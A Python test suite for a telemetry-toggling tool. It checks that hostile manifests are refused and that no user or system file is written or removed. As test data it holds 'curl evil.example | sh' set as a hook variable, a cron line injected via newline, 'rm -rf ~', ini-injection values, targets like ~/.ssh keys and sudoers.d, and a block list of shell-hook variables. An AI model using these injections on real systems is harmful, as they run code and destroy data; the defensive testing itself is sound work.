"""A manifest is data with narrow powers (issue 20 item 3, SPEC 6b, docs/manifests.md).

Each hostile manifest of issue 20's "Harm" list, put where a user or root would put it, with the
real files in the isolated HOME: refused with file:line, and nothing it names is written or removed.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from conftest import Env, Telemetry
from telemetry_gate.errors import InvalidFileError
from telemetry_gate.native import shellcode
from telemetry_gate.policy.manifests import SHIPPED, parse

SOURCE = 'source = "https://example.org/docs"\n'


def _user_manifest(isolation: Env, name: str, text: str) -> Path:
    path = isolation.home / ".local" / "share" / "tenx" / "telemetry" / "products.d" / f"{name}.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'[product]\nname = "{name}"\n\n{text}')
    return path


def _system_manifest(isolation: Env, name: str, text: str) -> Path:
    path = isolation.system_dir / "products.d" / f"{name}.toml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f'[product]\nname = "{name}"\n\n{text}')
    return path


def _flag(path: str, scope: str = "user") -> str:
    return f'[[native]]\nkind = "flag-file"\nfacets = ["collection"]\nscope = "{scope}"\npath = "{path}"\n{SOURCE}'


def _ini(path: str, key: str, off: str, scope: str = "user") -> str:
    return (f'[[native]]\nkind = "config-file"\nfacets = ["collection"]\nscope = "{scope}"\npath = "{path}"\n'
            f'format = "ini"\nkey = "{key}"\noff = "{off}"\non = "true"\n{SOURCE}')


def _env(variable: str, off: str = "1") -> str:
    return f'[[native]]\nkind = "env"\nfacets = ["collection"]\nvariable = "{variable}"\noff = "{off}"\n{SOURCE}'


def _parse(name: str, text: str) -> InvalidFileError:
    with pytest.raises(InvalidFileError) as caught:
        parse(f'[product]\nname = "{name}"\n\n{text}'.encode(), f"/x/{name}.toml")
    return caught.value


# -- the harm, end to end --------------------------------------------------------------------


@pytest.mark.parametrize("target", [".bashrc", ".ssh/id_ed25519"])
def test_a_flag_file_manifest_never_deletes_a_users_file(inprocess: Telemetry, isolation: Env, target: str) -> None:
    victim = isolation.home / target
    victim.parent.mkdir(parents=True, exist_ok=True)
    victim.write_text("export PATH=$HOME/bin:$PATH\n")
    manifest = _user_manifest(isolation, "evil", _flag(f"~/{target}"))
    for args in (("disable",), ("enable",), ("enable", "-p", "evil")):
        inprocess(*args)
        assert victim.read_text() == "export PATH=$HOME/bin:$PATH\n", args
    check = inprocess("check")
    assert f"{manifest}:8" in check.stdout + check.stderr  # refused, with the line of its path


def test_a_non_empty_file_at_a_flag_path_is_reported_never_deleted(inprocess: Telemetry, isolation: Env) -> None:
    flag = isolation.home / ".evil" / "disable"
    flag.parent.mkdir()
    flag.write_text("the user's notes\n")
    _user_manifest(isolation, "evil", _flag("~/.evil/disable"))
    inprocess("enable", "-p", "evil")
    assert flag.read_text() == "the user's notes\n"
    flag.unlink()
    assert inprocess("disable", "-p", "evil").exit_code == 0 and flag.read_bytes() == b""  # ours, journaled
    flag.write_text("the user's notes\n")  # then something wrote into it
    result = inprocess("enable", "-p", "evil")
    assert result.exit_code == 3 and "holds 17 bytes" in result.stderr and "Traceback" not in result.stderr
    assert flag.read_text() == "the user's notes\n"
    flag.write_text("")  # the empty flag file telemetry-gate wrote: removed
    assert inprocess("enable", "-p", "evil").exit_code == 0 and not flag.exists()


def test_a_root_trusted_manifest_never_writes_cron_d(inprocess: Telemetry, isolation: Env) -> None:
    manifest = _system_manifest(isolation, "evil", _ini("$SYSTEM/cron.d/telemetry", "job.telemetry",
                                                        r"false\n* * * * * root sh -c id", "system"))
    inprocess("disable", "--system")
    assert not (isolation.system_root / "cron.d").exists()
    assert f"{manifest}:8" in inprocess("check").stdout


def test_a_root_trusted_manifest_never_deletes_a_system_file(inprocess: Telemetry, isolation: Env) -> None:
    hostname = isolation.system_root / "hostname"
    hostname.parent.mkdir(parents=True, exist_ok=True)
    hostname.write_text("")  # even empty: it is not the product's place
    _system_manifest(isolation, "evil", _flag("$SYSTEM/hostname", "system"))
    inprocess("disable", "--system")
    inprocess("enable", "--system")
    assert hostname.exists()


@pytest.mark.parametrize("variable", ["PROMPT_COMMAND", "BASH_ENV", "LD_PRELOAD", "PYTHONSTARTUP", "ENV"])
def test_an_env_switch_never_names_a_shell_hook(inprocess: Telemetry, isolation: Env, variable: str) -> None:
    _user_manifest(isolation, "evil", _env(variable, "curl evil.example | sh"))
    _system_manifest(isolation, "evil2", _env(variable, "curl evil.example | sh"))
    inprocess("disable")
    inprocess("disable", "--system")
    written = [p for p in isolation.root.rglob("*") if p.is_file() and "products.d" not in p.parts]
    assert any(p.name == "env.sh" for p in written) and any(p.parent.name == "profile.d" for p in written)
    assert any(p.parent.name == "environment.d" for p in written)
    for path in written:
        assert variable not in path.read_text(errors="replace"), path


def test_the_shell_files_leave_out_a_hook_whatever_let_it_through() -> None:
    exports = [shellcode.Export("BASH_ENV", "/tmp/x", ("evil",), True),
               shellcode.Export("DEMO_OFF", "1\nrm -rf ~", ("evil",), True),
               shellcode.Export("DEMO_NO_TELEMETRY", "1", ("demo",), True)]
    texts = [shellcode.posix(exports, [], "TELEMETRY_GATE_EXPORTED"),
             shellcode.fish(exports, [], "TELEMETRY_GATE_EXPORTED"),
             shellcode.environment_d(exports, [], "TELEMETRY_GATE_EXPORTED")[0]]
    for text in texts:
        code = [line for line in text.splitlines() if not line.startswith("#")]
        assert "DEMO_NO_TELEMETRY" in "\n".join(code)
        assert not any("BASH_ENV" in line or "DEMO_OFF" in line or "rm -rf" in line for line in code)


@pytest.mark.parametrize(("key", "off"), [("core.telemetry", r"false\n[evil]\ncmd = touch ~/pwned"),
                                          (r"core.tele\nmetry", "false"), ("core].x", "false")])
def test_an_ini_value_or_key_never_adds_lines(inprocess: Telemetry, isolation: Env, key: str, off: str) -> None:
    config = isolation.home / ".evil" / "config.ini"
    config.parent.mkdir()
    config.write_text("[core]\ntelemetry = true\n")
    manifest = _user_manifest(isolation, "evil", _ini("~/.evil/config.ini", key, off))
    inprocess("disable")
    assert config.read_text() == "[core]\ntelemetry = true\n"
    check = inprocess("check")
    assert f"{manifest}:" in check.stdout + check.stderr


def test_telemetry_gates_own_files_are_never_a_switch(inprocess: Telemetry, isolation: Env) -> None:
    """A product whose directory is where this user's config directory points: found with the
    real directories when the switch is written, not in the template."""
    env = {"XDG_CONFIG_HOME": str(isolation.home / "cfg")}
    settings = isolation.home / "cfg" / "tenx" / "telemetry" / "settings.toml"
    _user_manifest(isolation, "cfg", '[[native]]\nkind = "config-file"\nfacets = ["upload"]\n'
                   'path = "~/cfg/tenx/telemetry/settings.toml"\nformat = "toml"\nkey = "endpoint"\n'
                   f'off = "https://evil.example"\non = "https://evil.example/on"\n{SOURCE}')
    result = inprocess("disable", env=env)
    assert result.exit_code == 3 and "telemetry-gate's own files" in result.stderr
    assert "evil" not in settings.read_text()


# -- the rules, at parse time ------------------------------------------------------------------


@pytest.mark.parametrize(("name", "path", "scope"), [
    ("demo", "~/.demo/disable", "user"),
    ("demo", "~/demo/sub/disable", "user"),
    ("demo", "$XDG_CONFIG_HOME/demo/disable", "user"),
    ("demo", "$XDG_STATE_HOME/demo/x/disable", "user"),
    ("demo", "$SYSTEM/demo/disable", "system"),
])
def test_a_products_own_place_is_accepted(name: str, path: str, scope: str) -> None:
    manifest = parse(f'[product]\nname = "{name}"\n\n{_flag(path, scope)}'.encode(), f"/x/{name}.toml")
    assert manifest.native[0].path == path


@pytest.mark.parametrize(("name", "path", "scope", "problem"), [
    ("evil", "~/.bashrc", "user", "named for the product"),
    ("evil", "~/.ssh/id_ed25519", "user", "named for the product"),
    ("evil", "~/.config/autostart/evil.desktop", "user", "named for the product"),
    ("evil", "~/.evil", "user", "one level below"),
    ("evil", "/home/someone/.evil/x", "user", "absolute path"),
    ("ssh", "~/.ssh/authorized_keys", "user", "runs code, holds secrets"),
    ("autostart", "$XDG_CONFIG_HOME/autostart/x.desktop", "user", "runs code, holds secrets"),
    ("git", "$XDG_CONFIG_HOME/git/config", "user", "runs code, holds secrets"),
    ("environment.d", "$XDG_CONFIG_HOME/environment.d/x.conf", "user", "runs code, holds secrets"),
    ("tenx", "$XDG_CONFIG_HOME/tenx/telemetry/settings.toml", "user", "runs code, holds secrets"),
    ("acme", "$XDG_CONFIG_HOME/acme/telemetry/settings.toml", "user", "telemetry-gate's own"),
    ("acme", "$XDG_DATA_HOME/acme/telemetry/products.d/x.toml", "user", "telemetry-gate's own"),
    ("evil", "$XDG_CONFIG_HOME/tenx/telemetry/disable", "user", "named for the product"),
    ("evil", "$SYSTEM/cron.d/telemetry", "system", "named for the product"),
    ("evil", "$SYSTEM/hostname", "system", "one level below"),
    ("cron.d", "$SYSTEM/cron.d/telemetry", "system", "runs code, holds secrets"),
    ("sudoers.d", "$SYSTEM/sudoers.d/evil", "system", "runs code, holds secrets"),
    ("acme", "$SYSTEM/acme/telemetry/disable", "system", "telemetry-gate's own"),
])
def test_a_path_outside_the_products_place_is_refused(name: str, path: str, scope: str, problem: str) -> None:
    error = _parse(name, _flag(path, scope))
    assert problem in error.problem and error.line == 8


def test_a_products_d_copy_of_a_shipped_manifest_keeps_its_places(inprocess: Telemetry, isolation: Env) -> None:
    """Cell Ranger's flags live in telemetry-gate's own directory: a user's copy may keep them,
    another product may not claim them."""
    text = (SHIPPED / "cellranger.toml").read_text()
    path = isolation.home / ".local" / "share" / "tenx" / "telemetry" / "products.d" / "cellranger.toml"
    path.parent.mkdir(parents=True)
    path.write_text(text)
    assert inprocess("disable").exit_code == 0
    assert (isolation.config_dir / "disable").exists()
    assert inprocess("enable").exit_code == 0
    assert not (isolation.config_dir / "disable").exists()
    other = path.with_name("evil.toml")
    other.write_text(text.replace('name = "cellranger"', 'name = "evil"'))
    assert "named for the product" in inprocess("check").stdout


@pytest.mark.parametrize(("variable", "problem"), [
    ("PROMPT_COMMAND", "may not name"), ("BASH_ENV", "may not name"), ("PS1", "may not name"),
    ("PATH", "may not name"), ("IFS", "may not name"), ("LD_PRELOAD", "may not name"),
    ("DYLD_INSERT_LIBRARIES", "may not name"), ("PYTHONPATH", "may not name"), ("NODE_OPTIONS", "may not name"),
    ("PERL5OPT", "may not name"), ("RUBYOPT", "may not name"), ("ZDOTDIR", "may not name"),
    ("TELEMETRY_ENDPOINT", "may not name"), ("demo_off", "upper-case"), ("1DEMO", "upper-case"),
])
def test_an_env_name_that_is_a_hook_is_refused(variable: str, problem: str) -> None:
    error = _parse("demo", _env(variable))
    assert problem in error.problem and error.line == 7


@pytest.mark.parametrize(("table", "key"), [
    (_env("DEMO_NO_TELEMETRY", r"1\nexport X=1"), "off"),
    (_env("DEMO_NO_TELEMETRY", "1" * 257), "off"),
    (_env("DEMO_NO_TELEMETRY", r"1\t2"), "off"),
    (_ini("~/.demo/c.ini", "core.telemetry", r"false\r\n[x]"), "off"),
    (_ini("~/.demo/c.ini", "core x.telemetry", "false"), "key"),
    (_ini("~/.demo/c.ini", "core.tele=metry", "false"), "key"),
])
def test_a_value_or_key_that_is_not_one_plain_line_is_refused(table: str, key: str) -> None:
    error = _parse("demo", table)
    assert error.line is not None and key in error.problem


def test_every_shipped_manifest_keeps_to_the_narrow_powers_outside_the_catalogue(isolation: Env) -> None:
    """What a products.d copy of each shipped manifest would be held to: its env names and
    values; its places are the shipped ones (and so trusted, exactly those)."""
    for path in sorted(SHIPPED.glob("*.toml")):
        manifest = parse(path.read_bytes(), str(isolation.root / path.name))
        assert manifest.name == path.stem
    assert os.listdir(isolation.root)  # nothing else was needed


# -- outside the shipped catalogue, only what is about telemetry (review of issue 20) ------------------

def _products_d(isolation: Env, name: str, body: str) -> Path:
    folder = isolation.home / ".local" / "share" / "tenx" / "telemetry" / "products.d"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{name}.toml"
    path.write_text(f'[product]\nname = "{name}"\n\n{body}')
    return path


@pytest.mark.parametrize("variable", ["VIMINIT", "MANPAGER", "OPENSSL_CONF", "SSLKEYLOGFILE", "JUPYTER_CONFIG_DIR",
                                      "GOFLAGS", "RUSTC_WRAPPER", "SUDO_EDITOR", "NODE_EXTRA_CA_CERTS"])
def test_a_products_d_manifest_names_only_a_telemetry_variable(variable: str, inprocess: Telemetry,
                                                               isolation: Env) -> None:
    path = _products_d(isolation, "demo", f'[[native]]\nkind = "env"\nfacets = ["collection"]\n'
                                          f'variable = "{variable}"\noff = "x"\nsource = "https://e.org/"\n')
    out = inprocess("disable", "-p", "demo")
    assert f"{path}:" in out.stderr and "about telemetry" in out.stderr
    sh = isolation.config_dir / "env.sh"
    assert not sh.exists() or variable not in sh.read_text()


def test_a_manifest_named_after_another_tool_cannot_set_its_other_keys(inprocess: Telemetry,
                                                                        isolation: Env) -> None:
    _products_d(isolation, "jupyter",
                '[detect]\npaths = ["~/.jupyter"]\n\n[[native]]\nkind = "config-file"\nfacets = ["collection"]\n'
                'path = "~/.jupyter/jupyter_server_config.json"\nformat = "json"\nkey = "ServerApp.ip"\n'
                'off = "0.0.0.0"\non = "127.0.0.1"\nsource = "https://e.org/"\n')
    (isolation.home / ".jupyter").mkdir()
    inprocess("disable")
    assert not (isolation.home / ".jupyter" / "jupyter_server_config.json").exists()


def test_every_shipped_switch_is_about_telemetry_so_a_products_d_copy_still_works() -> None:
    from telemetry_gate.policy.manifests import SHIPPED, parse
    from telemetry_gate.policy.own import powers

    for path in sorted(SHIPPED.glob("*.toml")):
        for switch in parse(path.read_bytes(), str(path)).native:
            name = switch.variable if switch.kind == "env" else f"{switch.key} {switch.path}"
            assert switch.kind == "flag-file" or powers.about_telemetry(name), (path.name, name)
